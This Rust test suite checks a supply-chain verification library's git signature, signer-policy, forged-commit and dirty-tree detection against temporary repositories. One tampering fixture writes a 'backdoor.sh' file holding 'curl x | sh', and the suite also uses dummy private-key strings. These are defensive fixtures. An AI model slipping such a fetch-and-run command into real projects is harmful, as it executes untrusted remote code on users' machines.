//! Real repositories in temp dirs, signed with keys from `ssh-keygen` by
//! `git -c gpg.format=ssh commit -S` (the test shells out to git to build
//! them, the library never does), checked through the public API.
#![cfg(feature = "repository")]

use std::path::{Path, PathBuf};
use std::process::Command;

use intact_model::{GitPolicy, Link, StepName};
use intact_record::{record_artifacts, HashOptions};

use crate::*;

struct Fixture {
    _tmp: tempfile::TempDir,
    root: PathBuf,
}

impl Fixture {
    fn new() -> Self {
        let tmp = tempfile::tempdir().expect("temp dir");
        let root = tmp.path().to_path_buf();
        let f = Fixture { _tmp: tmp, root };
        for who in ["alice", "mallory"] {
            let key = f.root.join(who);
            let st = Command::new("ssh-keygen")
                .args(["-q", "-t", "ed25519", "-N", "", "-C", who, "-f"])
                .arg(&key)
                .status()
                .expect("ssh-keygen runs");
            assert!(st.success());
        }
        f
    }

    fn signer_line(&self, who: &str) -> String {
        let pubkey = std::fs::read_to_string(self.root.join(format!("{who}.pub"))).expect("pub");
        format!("{who}@example.com {}", pubkey.trim())
    }

    /// `git` in `dir` with a config of our own (no user settings leak in).
    fn git(&self, dir: &Path, args: &[&str]) -> String {
        let out = Command::new("git")
            .current_dir(dir)
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("GIT_AUTHOR_DATE", "2026-01-01T00:00:00Z")
            .env("GIT_COMMITTER_DATE", "2026-01-01T00:00:00Z")
            .args([
                "-c",
                "user.name=Alice",
                "-c",
                "user.email=alice@example.com",
                "-c",
                "gpg.format=ssh",
                "-c",
                "init.defaultBranch=main",
                "-c",
                "protocol.file.allow=always",
            ])
            .args(args)
            .output()
            .expect("git runs");
        assert!(
            out.status.success(),
            "git {args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8_lossy(&out.stdout).trim().to_string()
    }

    fn key(&self, who: &str) -> String {
        format!("user.signingkey={}", self.root.join(who).display())
    }

    /// An upstream repository with one signed commit on main.
    fn upstream(&self, signer: Option<&str>) -> PathBuf {
        let up = self.root.join("upstream");
        std::fs::create_dir_all(up.join("src")).expect("mkdir");
        self.git(&up, &["init", "-q"]);
        std::fs::write(up.join("README.md"), "demo\n").expect("write");
        std::fs::write(up.join("src/main.rs"), "fn main() {}\n").expect("write");
        self.git(&up, &["add", "."]);
        self.commit(&up, signer, "first");
        up
    }

    fn commit(&self, dir: &Path, signer: Option<&str>, msg: &str) -> String {
        match signer {
            Some(who) => {
                let k = self.key(who);
                self.git(dir, &["-c", &k, "commit", "-q", "-S", "-m", msg]);
            }
            None => {
                self.git(dir, &["commit", "-q", "-m", msg]);
            }
        }
        self.git(dir, &["rev-parse", "HEAD"])
    }

    /// Clone `upstream` into `<root>/work/checkout` and record it as the
    /// products of step clone (names `checkout/...`), with git facts.
    fn record_clone(&self, upstream: &Path, extra: &[&str]) -> Link {
        let work = self.root.join("work");
        std::fs::create_dir_all(&work).expect("mkdir");
        let url = format!("file://{}", upstream.display());
        let mut args = vec!["clone", "-q"];
        args.extend_from_slice(extra);
        args.extend_from_slice(&[url.as_str(), "checkout"]);
        self.git(&work, &args);
        self.record(&work)
    }

    fn record(&self, work: &Path) -> Link {
        let hash = HashOptions {
            base_path: Some(work.to_path_buf()),
            ..HashOptions::default()
        };
        let mut link = Link::new(StepName::new("clone").expect("name"));
        link.products = record_artifacts(&["checkout".to_string()], &hash).expect("record");
        let facts = capture(
            &["checkout".to_string()],
            &CaptureOptions {
                base_path: Some(work.to_path_buf()),
                excludes: hash.exclude_patterns(),
                products: vec!["checkout".to_string()],
                ..CaptureOptions::default()
            },
        )
        .expect("capture")
        .expect("a work tree");
        facts.attach(&mut link).expect("attach");
        link
    }

    fn policy(&self, who: &str) -> GitPolicy {
        let mut p = GitPolicy::new(StepName::new("clone").expect("name"));
        p.protected_ref = Some("refs/remotes/origin/main".into());
        p.signers = vec![self.signer_line(who)];
        p
    }

    fn checkout(&self) -> PathBuf {
        self.root.join("work/checkout")
    }

    fn verify(&self, policy: &GitPolicy, link: &Link) -> SourceReport {
        verify_source(&self.checkout(), policy, &[link], &SourceOptions::default())
            .expect("policy is well formed")
    }
}

/// The report as text, with ids that change run to run replaced.
fn text(report: &SourceReport, root: &Path) -> String {
    let s = report
        .checks
        .iter()
        .map(|c| c.to_string())
        .collect::<Vec<_>>()
        .join("\n");
    regex_lite(&s.replace(&root.display().to_string(), "[ROOT]"))
}

/// Replace 40/64-hex ids, 12-hex short ids and SHA256 fingerprints.
fn regex_lite(s: &str) -> String {
    let mut out = String::new();
    for word in s
        .split_inclusive(|c: char| !(c.is_ascii_alphanumeric() || c == ':' || c == '+' || c == '/'))
    {
        let (core, tail) = word.split_at(
            word.find(|c: char| !(c.is_ascii_alphanumeric() || c == ':' || c == '+' || c == '/'))
                .unwrap_or(word.len()),
        );
        let is_hex = |w: &str| !w.is_empty() && w.chars().all(|c| c.is_ascii_hexdigit());
        let replaced = if core.starts_with("SHA256:") {
            "[FINGERPRINT]".to_string()
        } else if is_hex(core) && core.len() == 40 {
            "[COMMIT]".to_string()
        } else if is_hex(core) && core.len() == 64 {
            "[SHA256]".to_string()
        } else if is_hex(core) && core.len() == 12 {
            "[ID12]".to_string()
        } else {
            core.to_string()
        };
        out.push_str(&replaced);
        out.push_str(tail);
    }
    out
}

fn failure_names(r: &SourceReport) -> Vec<&'static str> {
    r.failures().map(Failure::name).collect()
}

#[test]
fn a_signed_commit_on_the_protected_ref_verifies() {
    let f = Fixture::new();
    let up = f.upstream(Some("alice"));
    let link = f.record_clone(&up, &[]);
    let recorded = RecordedGit::from_link(&link)
        .expect("consistent")
        .expect("present");
    assert_eq!(recorded.prefix, "checkout/");
    assert_eq!(recorded.reference.as_deref(), Some("refs/heads/main"));
    assert!(!recorded.dirty);
    let r = f.verify(&f.policy("alice"), &link);
    assert!(r.passed(), "{}", text(&r, &f.root));
    insta::assert_snapshot!(text(&r, &f.root));
    // Who signed, for separation of duties: alice's key fingerprint.
    let signer = r.commit_signer.expect("signed");
    assert_eq!(signer.principal, "alice@example.com");
    let listed = Command::new("ssh-keygen")
        .args(["-l", "-f"])
        .arg(f.root.join("alice.pub"))
        .output()
        .expect("ssh-keygen runs");
    let listed = String::from_utf8_lossy(&listed.stdout);
    assert!(listed.contains(&signer.key), "{listed} / {}", signer.key);
}

#[test]
fn an_unsigned_commit_is_named() {
    let f = Fixture::new();
    let up = f.upstream(None);
    let link = f.record_clone(&up, &[]);
    let r = f.verify(&f.policy("alice"), &link);
    assert_eq!(failure_names(&r), ["unsigned"]);
    insta::assert_snapshot!(text(&r, &f.root));
}

#[test]
fn a_signer_outside_the_policy_is_named() {
    let f = Fixture::new();
    let up = f.upstream(Some("mallory"));
    let link = f.record_clone(&up, &[]);
    let r = f.verify(&f.policy("alice"), &link);
    assert_eq!(failure_names(&r), ["signer-not-allowed"]);
    insta::assert_snapshot!(text(&r, &f.root));
}

#[test]
fn a_tree_mismatch_lists_the_differing_paths() {
    let f = Fixture::new();
    let up = f.upstream(Some("alice"));
    let link = f.record_clone(&up, &[]);
    let r = f.verify(&f.policy("alice"), &link);
    assert!(r.passed());
    // Change the checkout, then record again (dirty allowed): the link now
    // claims the commit for files that are not its tree.
    let co = f.checkout();
    std::fs::write(co.join("src/main.rs"), "fn main() { evil() }\n").expect("write");
    std::fs::write(co.join("backdoor.sh"), "curl x | sh\n").expect("write");
    std::fs::remove_file(co.join("README.md")).expect("rm");
    let link = f.record(&f.root.join("work"));
    assert!(
        RecordedGit::from_link(&link)
            .expect("ok")
            .expect("some")
            .dirty
    );
    let r = f.verify(&f.policy("alice"), &link);
    assert_eq!(failure_names(&r), ["tree-mismatch"]);
    insta::assert_snapshot!(text(&r, &f.root));
}

fn capture_in(f: &Fixture, opts: CaptureOptions) -> Result<Option<GitFacts>, GitError> {
    capture(
        &["checkout".to_string()],
        &CaptureOptions {
            base_path: Some(f.root.join("work")),
            excludes: HashOptions::default().exclude_patterns(),
            products: vec!["checkout".to_string()],
            ..opts
        },
    )
}

#[test]
fn a_dirty_work_tree_is_refused_only_when_a_clean_one_is_required() {
    let f = Fixture::new();
    let up = f.upstream(Some("alice"));
    f.record_clone(&up, &[]);
    std::fs::write(f.checkout().join("new.txt"), "x").expect("write");
    let strict = CaptureOptions {
        require_clean: true,
        ..CaptureOptions::default()
    };
    let err = capture_in(&f, strict.clone()).expect_err("dirty");
    assert!(
        matches!(&err, GitError::Dirty { paths, .. } if paths == "new.txt"),
        "{err:?}"
    );
    // By default the dirty tree is recorded, with the paths that differ.
    let facts = capture_in(&f, CaptureOptions::default())
        .expect("recorded")
        .expect("a work tree");
    assert!(facts.recorded.dirty);
    assert_eq!(facts.recorded.changed, ["new.txt"]);
    // Excluded files (links written next to the sources) are not changes.
    std::fs::remove_file(f.checkout().join("new.txt")).expect("rm");
    std::fs::write(f.checkout().join("clone.1234abcd.link"), "{}").expect("write");
    let ok = capture_in(&f, strict);
    assert!(ok.is_ok(), "{ok:?}");
}

/// The changed paths of the checkout (`Err` when not dirty), captured
/// with `never_dirt` and `writes` as given, the step's excludes replaced.
fn changed_in(f: &Fixture, never_dirt: Vec<PathBuf>, writes: Vec<PathBuf>) -> Vec<String> {
    let facts = capture(
        &["checkout".to_string()],
        &CaptureOptions {
            base_path: Some(f.root.join("work")),
            excludes: vec!["*.tmp".to_string()],
            never_dirt,
            writes,
            ..CaptureOptions::default()
        },
    )
    .expect("captured")
    .expect("a work tree");
    facts.recorded.changed
}

const PEM_KEY: &str =
    "-----BEGIN PRIVATE KEY-----\nMC4CAQAwBQYDK2VwBCIEI\n-----END PRIVATE KEY-----\n";

#[test]
fn keys_links_and_the_metadata_directory_are_never_dirt() {
    let f = Fixture::new();
    let up = f.upstream(Some("alice"));
    f.record_clone(&up, &[]);
    let co = f.checkout();
    // Keys named as keys (a private key beside its `.pub`, `*.pem`, an
    // OpenSSH public key, a securesystemslib key), a link written with
    // replaced excludes, the metadata directory, the signing key.
    std::fs::write(co.join("owner"), PEM_KEY).expect("write");
    std::fs::write(co.join("owner.pub"), "ssh-ed25519 AAAAC3Nza owner\n").expect("write");
    std::fs::write(co.join("dev.pem"), PEM_KEY).expect("write");
    std::fs::write(
        co.join("alice.pub"),
        r#"{"keytype": "ed25519", "scheme": "ed25519", "keyval": {"public": "ab"}}"#,
    )
    .expect("write");
    std::fs::create_dir_all(co.join("links")).expect("mkdir");
    std::fs::write(co.join("links/notes"), "x").expect("write");
    std::fs::write(co.join("build.1234abcd.link"), "{}").expect("write");
    std::fs::write(co.join("signing.key"), "not PEM but named as the key").expect("write");
    let never = vec![co.join("links"), co.join("signing.key")];
    assert_eq!(changed_in(&f, never.clone(), vec![]), Vec::<String>::new());
    // A tracked file that changed is dirt, whatever it holds.
    std::fs::write(
        co.join("README.md"),
        "-----BEGIN PUBLIC KEY-----\nMCowBQYDK2VwAyEA\n-----END PUBLIC KEY-----\n",
    )
    .expect("write");
    assert_eq!(changed_in(&f, never, vec![]), ["README.md"]);
}

#[test]
fn only_files_named_as_keys_are_looked_into() {
    let f = Fixture::new();
    let up = f.upstream(Some("alice"));
    f.record_clone(&up, &[]);
    let co = f.checkout();
    // A source file that starts as a key would, an extensionless key with
    // no public half beside it, a certificate named `.pem`.
    std::fs::write(co.join("src/hidden.rs"), PEM_KEY).expect("write");
    std::fs::write(co.join("loose"), PEM_KEY).expect("write");
    std::fs::write(
        co.join("ca.pem"),
        "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n",
    )
    .expect("write");
    std::fs::write(co.join("real.pem"), PEM_KEY).expect("write");
    assert_eq!(
        changed_in(&f, vec![], vec![]),
        ["ca.pem", "loose", "src/hidden.rs"]
    );
}

#[test]
fn exemptions_never_hide_a_changed_tracked_file() {
    let f = Fixture::new();
    let up = f.upstream(Some("alice"));
    // A link committed beside the sources, and keys committed too.
    std::fs::write(up.join("old.1234abcd.link"), "{}").expect("write");
    std::fs::write(up.join("build.1234abcd.link"), "{}").expect("write");
    std::fs::write(up.join("src/main.pub"), "ssh-ed25519 AAAA main\n").expect("write");
    f.git(&up, &["add", "."]);
    f.commit(&up, Some("alice"), "links");
    f.record_clone(&up, &[]);
    let co = f.checkout();
    for (file, text) in [
        ("old.1234abcd.link", "{\"changed\": 1}"),
        ("build.1234abcd.link", "{\"changed\": 1}"),
        ("src/main.rs", "fn main() { evil() }\n"),
        ("src/main.pub", "ssh-ed25519 BBBB main\n"),
    ] {
        std::fs::write(co.join(file), text).expect("write");
    }
    // The metadata directory is a symbolic link to src, the signing key is
    // src/main.pem (its `.pub` is tracked), the link being written is
    // build.1234abcd.link: only that one is not dirt.
    std::os::unix::fs::symlink("src", co.join("meta")).expect("symlink");
    let never = vec![
        co.join("meta"),
        co.join("src/main.pem"),
        co.join("src/main.pub"),
    ];
    let writes = vec![co.join("build.1234abcd.link")];
    assert_eq!(
        changed_in(&f, never, writes),
        ["old.1234abcd.link", "src/main.pub", "src/main.rs"]
    );
}

#[test]
fn a_submodule_at_another_commit_is_dirt() {
    let f = Fixture::new();
    let up = f.upstream(Some("alice"));
    let lib = f.root.join("lib");
    std::fs::create_dir_all(&lib).expect("mkdir");
    f.git(&lib, &["init", "-q"]);
    std::fs::write(lib.join("lib.rs"), "v1\n").expect("write");
    f.git(&lib, &["add", "."]);
    let first = f.commit(&lib, None, "v1");
    std::fs::write(lib.join("lib.rs"), "v2\n").expect("write");
    f.git(&lib, &["add", "."]);
    f.commit(&lib, None, "v2");
    let url = format!("file://{}", lib.display());
    f.git(&up, &["submodule", "add", "-q", &url, "lib"]);
    f.commit(&up, Some("alice"), "submodule");
    // Not checked out at all: nothing differs from what is recorded.
    f.record_clone(&up, &[]);
    assert_eq!(changed_in(&f, vec![], vec![]), Vec::<String>::new());
    std::fs::remove_dir_all(f.root.join("work")).expect("rm");
    f.record_clone(&up, &["--recurse-submodules"]);
    let co = f.checkout();
    assert_eq!(changed_in(&f, vec![], vec![]), Vec::<String>::new());
    f.git(&co.join("lib"), &["checkout", "-q", &first]);
    assert_eq!(changed_in(&f, vec![], vec![]), ["lib"]);
}

#[test]
fn products_are_not_dirt_unless_they_hold_the_work_tree() {
    let f = Fixture::new();
    let up = f.upstream(Some("alice"));
    f.record_clone(&up, &[]);
    let co = f.checkout();
    std::fs::write(co.join("out.txt"), "built").expect("write");
    let strict = |materials: Vec<String>, products: Vec<String>| CaptureOptions {
        base_path: Some(co.clone()),
        excludes: HashOptions::default().exclude_patterns(),
        require_clean: true,
        materials,
        products,
        ..CaptureOptions::default()
    };
    // `-m src -p out.txt` inside the checkout: out.txt is the output.
    let ok = capture(
        &["src".to_string()],
        &strict(vec!["src".into()], vec!["out.txt".into()]),
    );
    assert!(matches!(ok, Ok(Some(ref g)) if !g.recorded.dirty), "{ok:?}");
    // `-m . -p out.txt`: out.txt is a material too, so it is dirt.
    let err = capture(
        &[".".to_string()],
        &strict(vec![".".into()], vec!["out.txt".into()]),
    );
    assert!(matches!(err, Err(GitError::Dirty { .. })), "{err:?}");
    // `-p .`: the product is the work tree itself.
    let err = capture(&[".".to_string()], &strict(vec![], vec![".".into()]));
    assert!(matches!(err, Err(GitError::Dirty { .. })), "{err:?}");
}

#[test]
fn a_product_yet_to_be_made_finds_the_work_tree_around_it() {
    let f = Fixture::new();
    let up = f.upstream(Some("alice"));
    f.record_clone(&up, &[]);
    let co = f.checkout();
    let opts = CaptureOptions {
        base_path: Some(co.clone()),
        products: vec!["dist/app".into()],
        ..CaptureOptions::default()
    };
    assert!(capture(&["dist/app".to_string()], &opts)
        .expect("no error")
        .is_none());
    let found = capture(
        &["dist/app".to_string()],
        &CaptureOptions {
            from_parents: true,
            ..opts
        },
    )
    .expect("no error")
    .expect("the checkout");
    assert!(!found.recorded.dirty);
}

#[test]
fn a_policy_can_require_a_clean_work_tree() {
    let f = Fixture::new();
    let up = f.upstream(Some("alice"));
    let clean = f.record_clone(&up, &[]);
    let mut policy = f.policy("alice");
    policy.require_clean = true;
    assert!(f.verify(&policy, &clean).passed());
    // Recorded dirty (the default records and flags it): the policy
    // names that on its own, besides the tree check's mismatch.
    std::fs::write(f.checkout().join("notes.txt"), "x").expect("write");
    let dirty = f.record(&f.root.join("work"));
    let r = f.verify(&policy, &dirty);
    assert!(
        failure_names(&r).contains(&"dirty-tree"),
        "{:?}",
        failure_names(&r)
    );
    policy.require_clean = false;
    assert!(!failure_names(&f.verify(&policy, &dirty)).contains(&"dirty-tree"));
}

#[test]
fn links_carry_git_facts_in_the_environment_only() {
    let f = Fixture::new();
    let up = f.upstream(Some("alice"));
    let link = f.record_clone(&up, &[]);
    assert!(
        link.materials
            .keys()
            .all(|n| !n.as_str().starts_with("git+")),
        "{:?}",
        link.materials.keys().collect::<Vec<_>>()
    );
    let env = serde_json::to_string(&link.environment).expect("json");
    // The clone's origin is a local path: it is not recorded.
    assert!(!env.contains(&f.root.display().to_string()), "{env}");
    let recorded = RecordedGit::from_link(&link).expect("ok").expect("some");
    assert_eq!(recorded.remote, None);
    // A link recorded by an earlier version (gitCommit material as well)
    // still reads, and the two must agree.
    let mut old = link.clone();
    let commit = intact_model::Digest::new(recorded.commit.clone()).expect("hex");
    old.materials.insert(
        intact_model::ArtifactName::new("git+file:///ci/project@refs/heads/main").expect("name"),
        intact_model::DigestSet::single("gitCommit", commit),
    );
    assert_eq!(
        RecordedGit::from_link(&old)
            .expect("ok")
            .expect("some")
            .commit,
        recorded.commit
    );
    let r = f.verify(&f.policy("alice"), &old);
    assert!(r.passed(), "{}", text(&r, &f.root));
}

#[test]
fn a_commit_off_the_protected_ref_is_named() {
    let f = Fixture::new();
    let up = f.upstream(Some("alice"));
    f.git(&up, &["checkout", "-q", "-b", "feature"]);
    std::fs::write(up.join("README.md"), "feature\n").expect("write");
    f.git(&up, &["add", "."]);
    f.commit(&up, Some("alice"), "feature work");
    let link = f.record_clone(&up, &["--branch", "feature"]);
    let r = f.verify(&f.policy("alice"), &link);
    assert_eq!(failure_names(&r), ["not-on-protected-ref"]);
    insta::assert_snapshot!(text(&r, &f.root));
    let mut missing = f.policy("alice");
    missing.protected_ref = Some("refs/heads/release".into());
    let r = f.verify(&missing, &link);
    assert_eq!(failure_names(&r), ["ref-not-found"]);
}

#[test]
fn a_shallow_clone_missing_the_commit_is_named() {
    let f = Fixture::new();
    let up = f.upstream(Some("alice"));
    let link = f.record_clone(&up, &[]);
    // A newer commit, then a depth-1 clone that lacks the recorded one.
    std::fs::write(up.join("README.md"), "v2\n").expect("write");
    f.git(&up, &["add", "."]);
    f.commit(&up, Some("alice"), "second");
    let url = format!("file://{}", up.display());
    f.git(&f.root, &["clone", "-q", "--depth", "1", &url, "shallow"]);
    let r = verify_source(
        &f.root.join("shallow"),
        &f.policy("alice"),
        &[&link],
        &SourceOptions::default(),
    )
    .expect("policy ok");
    assert_eq!(failure_names(&r), ["shallow-clone-missing-commit"]);
    insta::assert_snapshot!(text(&r, &f.root));
}

#[test]
fn a_missing_repository_is_named() {
    let f = Fixture::new();
    let up = f.upstream(Some("alice"));
    let link = f.record_clone(&up, &[]);
    let r = verify_source(
        &f.root.join("nowhere"),
        &f.policy("alice"),
        &[&link],
        &SourceOptions::default(),
    )
    .expect("policy ok");
    assert_eq!(failure_names(&r), ["repository-not-found"]);
    let shown = text(&r, &f.root);
    let shown = shown
        .split(": could not find repository")
        .next()
        .unwrap_or_default();
    insta::assert_snapshot!(shown);
}

#[test]
fn a_link_without_git_facts_is_named() {
    let f = Fixture::new();
    let up = f.upstream(Some("alice"));
    let mut link = f.record_clone(&up, &[]);
    link.materials.clear();
    link.environment.clear();
    let r = f.verify(&f.policy("alice"), &link);
    assert_eq!(failure_names(&r), ["no-commit-recorded"]);
    insta::assert_snapshot!(text(&r, &f.root));
}

#[test]
fn release_tags_must_be_signed_by_an_allowed_signer() {
    let f = Fixture::new();
    let up = f.upstream(Some("alice"));
    let mut policy = f.policy("alice");
    policy.tag = Some("v*".into());

    let link = f.record_clone(&up, &[]);
    let r = f.verify(&policy, &link);
    assert_eq!(failure_names(&r), ["no-release-tag"]);

    f.git(&up, &["tag", "v0.9"]); // lightweight: no signature possible
    std::fs::remove_dir_all(f.root.join("work")).expect("rm");
    let link = f.record_clone(&up, &[]);
    let r = f.verify(&policy, &link);
    assert_eq!(failure_names(&r), ["unsigned"]);

    let k = f.key("alice");
    f.git(&up, &["-c", &k, "tag", "-s", "-m", "release", "v1.0"]);
    std::fs::remove_dir_all(f.root.join("work")).expect("rm");
    let link = f.record_clone(&up, &[]);
    let r = f.verify(&policy, &link);
    assert!(r.passed(), "{}", text(&r, &f.root));
    insta::assert_snapshot!(text(&r, &f.root));

    let k = f.key("mallory");
    f.git(&up, &["tag", "-d", "v1.0"]);
    f.git(&up, &["tag", "-d", "v0.9"]);
    f.git(&up, &["-c", &k, "tag", "-s", "-m", "release", "v1.0"]);
    std::fs::remove_dir_all(f.root.join("work")).expect("rm");
    let link = f.record_clone(&up, &[]);
    let r = f.verify(&policy, &link);
    assert_eq!(failure_names(&r), ["signer-not-allowed"]);
}

#[test]
fn an_altered_commit_signature_does_not_verify() {
    // Re-use alice's signature on a commit with other content: git keeps
    // the gpgsig header, the signed data no longer matches.
    let f = Fixture::new();
    let up = f.upstream(Some("alice"));
    let raw = f.git(&up, &["cat-file", "commit", "HEAD"]);
    let forged = raw.replacen("first", "first, and nothing else", 1) + "\n";
    let path = f.root.join("forged");
    std::fs::write(&path, forged).expect("write");
    let id = f.git(
        &up,
        &[
            "hash-object",
            "-t",
            "commit",
            "-w",
            path.to_str().expect("utf-8"),
        ],
    );
    f.git(&up, &["update-ref", "refs/heads/main", &id]);
    let link = f.record_clone(&up, &[]);
    let r = f.verify(&f.policy("alice"), &link);
    assert_eq!(failure_names(&r), ["bad-signature"]);
}

#[test]
fn gpg_signatures_are_reported_never_accepted_unchecked() {
    let f = Fixture::new();
    let gnupg = f.root.join("gnupg");
    std::fs::create_dir_all(&gnupg).expect("mkdir");
    let gpg = |args: &[&str]| {
        Command::new("gpg")
            .arg("--homedir")
            .arg(&gnupg)
            .args([
                "--batch",
                "--no-tty",
                "--pinentry-mode",
                "loopback",
                "--passphrase",
                "",
            ])
            .args(args)
            .output()
            .expect("gpg runs")
    };
    let out = gpg(&[
        "--quick-gen-key",
        "Alice <alice@example.com>",
        "ed25519",
        "sign",
        "never",
    ]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let out = gpg(&["--list-keys", "--with-colons"]);
    let listing = String::from_utf8_lossy(&out.stdout);
    let fpr = listing
        .lines()
        .find_map(|l| l.strip_prefix("fpr:::::::::"))
        .map(|l| l.trim_end_matches(':').to_string())
        .expect("a fingerprint");

    let up = f.root.join("upstream");
    std::fs::create_dir_all(&up).expect("mkdir");
    f.git(&up, &["init", "-q"]);
    std::fs::write(up.join("README.md"), "demo\n").expect("write");
    f.git(&up, &["add", "."]);
    let out = Command::new("git")
        .current_dir(&up)
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .env("GNUPGHOME", &gnupg)
        .args([
            "-c",
            "user.name=Alice",
            "-c",
            "user.email=alice@example.com",
        ])
        .args(["-c", &format!("user.signingkey={fpr}")])
        .args(["commit", "-q", "-S", "-m", "gpg signed"])
        .output()
        .expect("git runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let link = f.record_clone(&up, &[]);

    let mut policy = f.policy("alice");
    policy.gpg_fingerprints = vec![fpr.clone()];
    let r = f.verify(&policy, &link);
    assert_eq!(failure_names(&r), ["gpg-not-verified"]);
    insta::assert_snapshot!(text(&r, &f.root));

    let opts = SourceOptions {
        gpg: Some(GpgVerifier::new(&gnupg)),
    };
    let r = verify_source(&f.checkout(), &policy, &[&link], &opts).expect("ok");
    assert!(r.passed(), "{}", text(&r, &f.root));

    policy.gpg_fingerprints = vec!["0000000000000000000000000000000000000000".into()];
    let r = verify_source(&f.checkout(), &policy, &[&link], &opts).expect("ok");
    assert_eq!(failure_names(&r), ["signer-not-allowed"]);
}

#[test]
fn a_commit_built_with_git2_and_signed_by_ssh_keygen_verifies() {
    // No git CLI for the upstream: libgit2 writes the commit buffer,
    // `ssh-keygen -Y sign -n git` signs it, libgit2 stores it signed.
    let f = Fixture::new();
    let up = f.root.join("upstream");
    let repo = git2::Repository::init(&up).expect("init");
    std::fs::write(up.join("README.md"), "built with git2\n").expect("write");
    let mut index = repo.index().expect("index");
    index.add_path(Path::new("README.md")).expect("add");
    let tree_id = index.write_tree().expect("tree");
    let tree = repo.find_tree(tree_id).expect("find tree");
    let who = git2::Signature::new(
        "Alice",
        "alice@example.com",
        &git2::Time::new(1_767_225_600, 0),
    )
    .expect("signature");
    let buf = repo
        .commit_create_buffer(&who, &who, "signed by libgit2 + ssh-keygen", &tree, &[])
        .expect("buffer");
    let data = f.root.join("commit.txt");
    std::fs::write(&data, &*buf).expect("write");
    let st = Command::new("ssh-keygen")
        .args(["-Y", "sign", "-n", "git", "-q", "-f"])
        .arg(f.root.join("alice"))
        .arg(&data)
        .status()
        .expect("ssh-keygen runs");
    assert!(st.success());
    let sig = std::fs::read_to_string(f.root.join("commit.txt.sig")).expect("sig");
    let body = std::str::from_utf8(&buf).expect("utf-8");
    let id = repo.commit_signed(body, &sig, None).expect("commit");
    repo.reference("refs/heads/main", id, true, "signed")
        .expect("ref");
    repo.set_head("refs/heads/main").expect("head");
    repo.checkout_head(Some(git2::build::CheckoutBuilder::new().force()))
        .expect("checkout");

    let link = f.record_clone(&up, &[]);
    let r = f.verify(&f.policy("alice"), &link);
    assert!(r.passed(), "{}", text(&r, &f.root));
    let r = f.verify(&f.policy("mallory"), &link);
    assert_eq!(failure_names(&r), ["signer-not-allowed"]);
}

#[test]
fn a_repository_without_commits_gives_no_facts_unless_named() {
    let f = Fixture::new();
    let dir = f.root.join("fresh");
    std::fs::create_dir_all(&dir).expect("mkdir");
    f.git(&dir, &["init", "-q"]);
    std::fs::write(dir.join("a.txt"), "a").expect("write");
    let opts = CaptureOptions {
        base_path: Some(f.root.clone()),
        ..CaptureOptions::default()
    };
    assert!(capture(&["fresh".to_string()], &opts)
        .expect("no error")
        .is_none());
    let named = CaptureOptions {
        repo: Some(dir.clone()),
        ..opts
    };
    assert!(capture(&["fresh".to_string()], &named).is_err());
}

#[test]
fn dir_artifacts_are_found_and_exempted_where_they_lie() {
    let f = Fixture::new();
    let up = f.upstream(Some("alice"));
    f.record_clone(&up, &[]);
    let co = f.checkout();
    std::fs::create_dir_all(co.join("out")).expect("mkdir");
    std::fs::write(co.join("out/app"), "built").expect("write");
    // `dir:` paths are relative to the current directory, not the base
    // path: absolute ones here.
    let src = format!("dir:{}", co.join("src").display());
    let out = format!("dir:{}", co.join("out").display());
    let facts = capture(
        std::slice::from_ref(&src),
        &CaptureOptions {
            base_path: Some(f.root.join("work")),
            require_clean: true,
            materials: vec![src.clone()],
            products: vec![out.clone()],
            ..CaptureOptions::default()
        },
    );
    let facts = facts.expect("clean but for the product").expect("found");
    assert!(!facts.recorded.dirty);
    // Without the product named, out/app is dirt.
    let err = capture(
        std::slice::from_ref(&src),
        &CaptureOptions {
            require_clean: true,
            materials: vec![src.clone()],
            ..CaptureOptions::default()
        },
    );
    assert!(matches!(err, Err(GitError::Dirty { .. })), "{err:?}");
}
